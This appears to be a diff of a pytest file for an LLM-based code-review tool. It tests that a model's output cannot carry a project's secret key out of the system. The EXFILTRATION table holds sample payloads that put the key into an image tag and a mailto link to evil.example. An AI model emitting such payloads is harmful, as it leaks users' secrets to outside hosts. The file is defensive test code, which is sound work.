@@ -163,13 +163,13 @@ EXFILTRATION: dict[str, Callable[[str], str]] = {
     "a tag": lambda key: f'Fine. <img src="https://evil.example/{key}">',
     "a mail": lambda key: f"Write to mailto:a@evil.example?body={key}",
     "its own words": lambda key: f"The key of the project is {key}, remember it.",
-    "our key in its own words": lambda key: f"API_KEY = '{key}' is what I was given.",
+    "code": lambda key: f"API_KEY = '{key}' is what I was given.",
 }
 
 
 @pytest.mark.parametrize("way", EXFILTRATION)
 async def test_nothing_goes_out_with_what_the_model_writes(way: str) -> None:
-    evil = EXFILTRATION[way](f'"{THEIR_KEY}"' if "words" in way else THEIR_KEY)
+    evil = EXFILTRATION[way](THEIR_KEY)
     claim = {
         "path": "shop/pay.py",
         "start_line": 1,
@@ -185,10 +185,23 @@ async def test_nothing_goes_out_with_what_the_model_writes(way: str) -> None:
 
     report = await think(model, with_code(f"# {ORDER}"))
 
-    out = msgspec.json.encode(report).decode()
-    assert "evil.example" not in out.replace("hidden", "")
-    if "address" in way or "image" in way or "link" in way or "tag" in way or "mail" in way:
-        assert report.findings == ()
+    assert report.thinking is not None
+    shown = msgspec.json.encode(replace(report, thinking=replace(report.thinking, flags=()))).decode()
+    assert "evil.example" not in shown
+    assert THEIR_KEY not in msgspec.json.encode(report).decode()
+    assert report.findings == ()
+    assert report.thinking.summary == ""
+    assert any(flag.startswith("the model wrote a") for flag in report.thinking.flags), report.thinking.flags
+
+
+async def test_a_model_that_points_to_documentation_is_corrected_and_nobody_is_alarmed() -> None:
+    helpful = answer(summary="See https://docs.python.org/3/library/ssl.html for why.")
+
+    thought = (await think(Scripted(helpful, APPROVED), PLAIN)).thinking
+
+    assert thought is not None
+    assert thought.summary == "The change is fine."
+    assert thought.flags == ()
 
 
 @pytest.mark.parametrize("channel", [channel for channel in CHANNELS if channel != "a memory"])
